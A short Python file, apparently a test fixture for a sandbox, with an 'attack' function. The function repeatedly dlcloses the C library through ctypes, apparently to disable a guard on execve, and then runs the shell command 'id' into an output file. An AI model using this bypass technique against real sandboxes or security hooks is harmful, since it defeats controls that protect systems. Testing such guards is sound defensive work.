"""The guard is closed until it should be gone."""

import ctypes
import os

from libc_file import library_of


def attack(event):
    us = ctypes.CDLL(None)
    path = library_of(ctypes.cast(us.execve, ctypes.c_void_p).value)[0]
    us.dlopen.restype = ctypes.c_void_p
    handle = us.dlopen(path.encode(), 1)
    for _ in range(5):
        us.dlclose(ctypes.c_void_p(handle))
    os.system("id >%s" % event["out"])
